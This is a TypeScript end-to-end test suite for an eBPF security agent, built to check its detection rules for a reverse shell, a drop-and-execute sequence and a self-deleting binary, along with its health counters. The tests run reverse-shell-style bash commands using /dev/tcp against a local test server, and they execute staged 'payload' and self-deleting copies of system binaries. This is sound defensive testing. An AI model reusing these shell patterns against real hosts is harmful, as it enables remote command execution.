// End-to-end: sequence rules written in the TOML rule language (docs/rule-language.md), real agent, real BPF:
// a reverse shell, drop and execute, a self-deleting binary, each with its negatives; the health counters.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, connect, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AgentProcess, makeConfig, skipUnlessRoot, sleep, type Rec } from './helpers/agent-process.js';

const SHELLS = '["/sh", "/bash", "/dash", "/zsh"]';

/** The README's three rules, plus the reverse shell with maxspan = 1s (too-far-apart negative). */
function reverseShell(id: string, maxspan: string): string {
  return `
[[rules]]
id = "${id}"
type = "sequence"
name = "Shell connects out, then runs a command"
severity = "critical"
mitre = ["T1059.004"]
tags = ["execution"]
description = "A shell opened a network connection and then started a program."
maxspan = "${maxspan}"
[[rules.steps]]
events = ["network_connect"]
by = ["exec_id"]
condition = "shell"
[rules.steps.detection.shell]
family = ["ipv4", "ipv6"]        # not AF_UNIX: a shell without $SHELL connects to nscd for getpwuid
"exe_path|endswith" = ${SHELLS}
[[rules.steps]]
events = ["process_start"]
by = ["parent_exec_id"]
condition = "child"
[rules.steps.detection.child]
"exe_path|exists" = true
[rules.until]
events = ["process_exit"]
by = ["exec_id"]
`;
}

const RULES = `${reverseShell('RG-SEQ-REVERSE-SHELL', '5s')}${reverseShell('RG-SEQ-REVERSE-SHELL-1S', '1s')}
[[rules]]
id = "RG-SEQ-DROP-EXECUTE"
type = "sequence"
name = "Written file executed"
severity = "high"
mitre = ["T1105", "T1204.002"]
maxspan = "60s"
[[rules.steps]]
events = ["file_write", "file_writev", "file_pwrite64"]
by = ["resolved_path"]
condition = "written"
[rules.steps.detection.written]
"resolved_path|startswith" = ["/tmp/", "/var/tmp/", "/dev/shm/"]
[[rules.steps]]
events = ["process_start"]
by = ["exe_path"]
condition = "exec"
[rules.steps.detection.exec]
"exe_path|exists" = true

[[rules]]
id = "RG-SEQ-SELF-DELETE"
type = "sequence"
name = "Program deletes its own executable"
severity = "high"
mitre = ["T1070.004"]
maxspan = "30s"
[[rules.steps]]
events = ["process_start"]
by = ["exec_id", "exe_path"]
condition = "from_tmp"
[rules.steps.detection.from_tmp]
"exe_path|startswith" = ["/tmp/", "/var/tmp/", "/dev/shm/"]
[[rules.steps]]
events = ["file_unlink", "file_unlinkat"]
by = ["exec_id", "filename"]
condition = "unlink"
[rules.steps.detection.unlink]
"filename|exists" = true
`;

const root = process.getuid?.() === 0;
const dir = mkdtempSync(join(tmpdir(), 'rg-e2e-seq-'));
let agent: AgentProcess | undefined;
let server: Server | undefined;
let port = 0;

before(async () => {
  if (!root) return;
  server = createServer((socket) => {
    socket.on('data', () => undefined);
    socket.on('error', () => undefined);
  });
  await new Promise<void>((res) => server!.listen(0, '127.0.0.1', res));
  port = (server.address() as { port: number }).port;
  const base = makeConfig({ network: true, watchPaths: [dir], capture: { args: true, cwd: true }, outputPath: join(dir, 'events.ndjson') });
  agent = await AgentProcess.start({ configText: base.replace(/^rules = \[\]\n/, '') + RULES, outputPath: join(dir, 'events.ndjson') });
});

after(async () => {
  server?.close();
  if (agent !== undefined) await agent.stop();
  rmSync(dir, { recursive: true, force: true });
});

/** Runs a program to its end; @returns its pid. */
function run(file: string, args: string[]): Promise<number> {
  return new Promise((res, rej) => {
    const child = spawn(file, args, { stdio: 'ignore' });
    child.on('error', rej);
    child.on('exit', () => res(child.pid!));
  });
}

function alerts(ruleId: string): Rec[] {
  return agent!.records().filter((r) => r.event_type === 'alert' && r.rule_id === ruleId);
}

type Step = Record<string, unknown>;
const steps = (a: Rec): Step[] => a.sequence as Step[];

/** Waits until the agent has surely processed everything before now: a marker exec it must report. */
async function settle(): Promise<void> {
  const pid = await run('/bin/true', []);
  await agent!.waitFor((r) => r.event_type === 'process_start' && r.pid === pid, 'the settle marker');
}

test('reverse shell: a shell connects out then runs a command -> one alert naming both records', async (t) => {
  if (skipUnlessRoot(t)) return;
  const bash = await run('/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; /usr/bin/id >&3; exit 0`]);
  const alert = await agent!.waitFor((r) => r.event_type === 'alert' && r.rule_id === 'RG-SEQ-REVERSE-SHELL' && steps(r)[0]?.pid === bash, 'the reverse shell alert');
  const [connectStep, execStep] = steps(alert);
  assert.equal(steps(alert).length, 2);
  assert.equal(connectStep!.event_type, 'network_connect');
  assert.deepEqual([connectStep!.remote_addr, connectStep!.remote_port], ['127.0.0.1', port]);
  assert.equal(execStep!.event_type, 'process_start');
  assert.equal(execStep!.exe_path, '/usr/bin/id');
  assert.equal(execStep!.parent_exec_id, connectStep!.exec_id, 'joined on the shell image');
  // the alert is the last record's acting process, with the rule's metadata, right after that record
  assert.deepEqual([alert.rule_type, alert.severity, alert.mitre, alert.tags], ['sequence', 'critical', ['T1059.004'], ['execution']]);
  assert.deepEqual([alert.pid, alert.exe_path, alert.exec_id, alert.source_event_type], [execStep!.pid, '/usr/bin/id', execStep!.exec_id, 'process_start']);
  assert.deepEqual(alert.argv, ['/usr/bin/id']);
  assert.equal(alert.parent_exec_id, connectStep!.exec_id);
  const records = agent!.records();
  const at = records.findIndex((r) => r === records.find((x) => x.alert_id === alert.alert_id));
  const source = records.slice(0, at).reverse().find((r) => r.event_type !== 'alert');
  assert.deepEqual([source?.event_type, source?.exec_id, source?.timestamp_ns], ['process_start', execStep!.exec_id, alert.timestamp_ns]);
  // both records were also written as telemetry (monitor mode)
  assert.ok(records.some((r) => r.event_type === 'network_connect' && r.pid === bash && r.remote_port === port));
  // the 1 s variant fires too (both within 1 s)
  await agent!.waitFor((r) => r.event_type === 'alert' && r.rule_id === 'RG-SEQ-REVERSE-SHELL-1S' && steps(r)[0]?.pid === bash, 'the 1 s variant');
  await settle();
  assert.equal(alerts('RG-SEQ-REVERSE-SHELL').filter((a) => steps(a)[0]?.pid === bash).length, 1, 'exactly one alert');
});

test('reverse shell negatives: connect without a command, steps too far apart, unrelated processes', async (t) => {
  if (skipUnlessRoot(t)) return;
  const quiet = await run('/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; echo hi >&3`]);
  // `read -t 2` is a builtin: the shell waits 2 s between its connect and its exec
  const slow = await run('/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; read -t 2 x <&3; /usr/bin/id >&3; exit 0`]);
  const noConnect = await run('/bin/bash', ['-c', '/usr/bin/id; exit 0']);
  // a program that is not a shell connects out and starts a command
  const sock = connect({ host: '127.0.0.1', port });
  await new Promise<void>((res) => sock.on('connect', res));
  const fromNode = await run('/usr/bin/id', []);
  sock.destroy();
  await agent!.waitFor((r) => r.event_type === 'process_start' && r.pid === fromNode, 'the exec from node');
  await agent!.waitFor((r) => r.event_type === 'alert' && r.rule_id === 'RG-SEQ-REVERSE-SHELL' && steps(r)[0]?.pid === slow, 'the 5 s rule on the slow shell');
  await settle();
  const connects = agent!.records().filter((r) => r.event_type === 'network_connect' && r.remote_port === port);
  assert.ok(connects.some((r) => r.pid === quiet), 'the quiet shell connect was recorded');
  assert.ok(connects.some((r) => r.pid === process.pid), 'the node connect was recorded');
  const firstPids = (id: string) => alerts(id).map((a) => steps(a)[0]?.pid);
  assert.ok(!firstPids('RG-SEQ-REVERSE-SHELL').includes(quiet), 'a shell that runs nothing');
  assert.ok(!firstPids('RG-SEQ-REVERSE-SHELL').includes(process.pid), 'not a shell');
  // by image, not pid: over the whole suite pids wrap (pid_max 32768), so an earlier test's shell may have had this pid
  const noConnectImage = agent!.records().filter((r) => r.event_type === 'process_start' && r.pid === noConnect && String(r.exe_path).endsWith('/bash')).at(-1)?.exec_id;
  assert.ok(typeof noConnectImage === 'string', 'the shell that never connected was recorded');
  assert.ok(!alerts('RG-SEQ-REVERSE-SHELL').some((a) => steps(a)[1]?.parent_exec_id === noConnectImage), 'a shell that never connected');
  assert.ok(!firstPids('RG-SEQ-REVERSE-SHELL-1S').includes(slow), 'exec 2 s after the connect: outside maxspan 1s');
});

test('drop and execute: a written file executed -> alert joining the write and the exec; a file not written -> none', async (t) => {
  if (skipUnlessRoot(t)) return;
  const payload = join(dir, 'payload');
  writeFileSync(payload, readFileSync('/bin/true'));
  chmodSync(payload, 0o755);
  const pid = await run(payload, []);
  const alert = await agent!.waitFor((r) => r.event_type === 'alert' && r.rule_id === 'RG-SEQ-DROP-EXECUTE' && r.pid === pid, 'the drop-and-execute alert');
  const [w, x] = steps(alert);
  assert.equal(w!.event_type, 'file_write');
  assert.equal(w!.resolved_path, payload);
  assert.equal(w!.pid, process.pid, 'this test wrote it');
  assert.deepEqual([x!.event_type, x!.exe_path, x!.pid], ['process_start', payload, pid]);
  // negatives: a link to a file nobody wrote, and a written file that is never executed
  const link = join(dir, 'not-written');
  symlinkSync('/usr/bin/true', link);
  const linkPid = await run(link, []);
  writeFileSync(join(dir, 'written-only'), 'data\n');
  await agent!.waitFor((r) => r.event_type === 'process_start' && r.pid === linkPid, 'the exec through the link');
  await settle();
  const all = alerts('RG-SEQ-DROP-EXECUTE');
  assert.ok(!all.some((a) => a.pid === linkPid), 'executing a file not written');
  assert.ok(!all.some((a) => steps(a).some((s) => s.resolved_path === join(dir, 'written-only'))), 'a file written, never executed');
});

test('self-deleting binary: a program from /tmp deletes its own executable -> alert; deleting another file -> none', async (t) => {
  if (skipUnlessRoot(t)) return;
  const selfRm = join(dir, 'selfrm');
  const otherRm = join(dir, 'otherrm');
  const victim = join(dir, 'victim');
  for (const f of [selfRm, otherRm]) {
    writeFileSync(f, readFileSync('/usr/bin/rm'));
    chmodSync(f, 0o755);
  }
  writeFileSync(victim, 'x\n');
  const pid = await run(selfRm, [selfRm]);
  const alert = await agent!.waitFor((r) => r.event_type === 'alert' && r.rule_id === 'RG-SEQ-SELF-DELETE' && r.pid === pid, 'the self-delete alert');
  const [start, unlink] = steps(alert);
  assert.deepEqual([start!.event_type, start!.exe_path, start!.pid], ['process_start', selfRm, pid]);
  assert.match(String(unlink!.event_type), /^file_unlink/);
  assert.deepEqual([unlink!.filename, unlink!.pid, unlink!.exec_id], [selfRm, pid, start!.exec_id]);
  // negatives: the other copy deletes another file; then an unrelated rm deletes that copy
  const otherPid = await run(otherRm, [victim]);
  const rmPid = await run('/usr/bin/rm', [otherRm]);
  await agent!.waitFor((r) => /^file_unlink/.test(r.event_type) && r.pid === rmPid && r.filename === otherRm, 'the unrelated rm');
  await settle();
  const all = alerts('RG-SEQ-SELF-DELETE');
  assert.ok(!all.some((a) => a.pid === otherPid || a.pid === rmPid), 'deleting another file, or another process deleting the program');
  assert.equal(all.filter((a) => a.pid === pid).length, 1);
});

test('detect mode: the steps of a sequence are written when seen, with the alert; other records are not', async (t) => {
  if (skipUnlessRoot(t)) return;
  const out = join(dir, 'detect.ndjson');
  const config = makeConfig({ network: true, outputPath: out }).replace(/^rules = \[\]\n/, '').replace('mode = "monitor"', 'mode = "detect"') + reverseShell('RG-SEQ-REVERSE-SHELL', '5s');
  const detect = await AgentProcess.start({ configText: config, outputPath: out });
  try {
    const other = await run('/usr/bin/true', []);
    const bash = await run('/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; /usr/bin/id >&3; exit 0`]);
    const alert = await detect.waitFor((r) => r.event_type === 'alert' && r.rule_id === 'RG-SEQ-REVERSE-SHELL' && steps(r)[0]?.pid === bash, 'the alert in detect mode');
    const records = detect.records();
    const connectLine = records.find((r) => r.event_type === 'network_connect' && r.pid === bash && r.remote_port === port);
    assert.ok(connectLine, 'the first step was written when seen, before the sequence completed');
    assert.ok(records.indexOf(connectLine) < records.indexOf(records.find((r) => r.alert_id === alert.alert_id)!));
    assert.ok(records.some((r) => r.event_type === 'process_start' && r.exec_id === steps(alert)[1]!.exec_id), 'the completing record');
    assert.ok(!records.some((r) => r.event_type === 'process_start' && r.pid === other), 'a record that is no step: suppressed');
    const { records: all } = await detect.stop();
    const final = all.filter((r) => r.event_type === 'health').at(-1)!;
    assert.ok((final.userspace_mode_suppressed as number) > 0);
    assert.equal(final.events_unaccounted, 0);
  } finally {
    await detect.stop();
  }
});

test('health: sequence counters in the final record, expiries and cancellations counted, every partial accounted for', async (t) => {
  if (skipUnlessRoot(t)) return;
  // a shell that connects and then only waits (builtin read): its partials are neither completed nor cancelled
  // (it is still alive when the agent stops); the 1 s rule's expires with no further step of its key
  const idle = spawn('/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; read -t 20 x <&3`], { stdio: 'ignore' });
  try {
    await agent!.waitFor((r) => r.event_type === 'network_connect' && r.pid === idle.pid, 'the idle shell connect');
    // past the 1 s rule's maxspan, any later record (here our marker exec, if the sweep has not come first)
    // expires its partial; well within the 5 s rule's, whose partial must still be held at the stop
    await sleep(1_500);
    await settle();
    const { code, records } = await agent!.stop();
    agent = undefined;
    assert.equal(code, 0);
    const health = records.filter((r) => r.event_type === 'health');
    const final = health[health.length - 1]!;
    assert.equal(final.final, true);
    assert.equal(final.sequence_rules, 4);
    const written = records.filter((r) => r.event_type === 'alert' && r.rule_type === 'sequence').length;
    assert.equal(final.sequence_completed, written, 'one alert per completed sequence');
    // the slow shell's 1 s partial and the idle shell's
    assert.ok((final.sequence_partials_expired as number) >= 2, `expired ${String(final.sequence_partials_expired)}`);
    // the quiet shells exited after their connect: \`until\` (process_exit of the same image) cancelled them
    assert.ok((final.sequence_partials_cancelled as number) >= 2, `cancelled ${String(final.sequence_partials_cancelled)}`);
    // the idle shell's 5 s partial is still held
    assert.ok((final.sequence_partials_active as number) >= 1, `active ${String(final.sequence_partials_active)}`);
    assert.equal(final.sequence_partials_unaccounted, 0);
    assert.equal(final.sequence_partials_evicted_rule_limit, 0);
    assert.equal(final.sequence_partials_evicted_total_limit, 0);
    assert.equal(final.events_unaccounted, 0);
  } finally {
    idle.kill();
  }
});
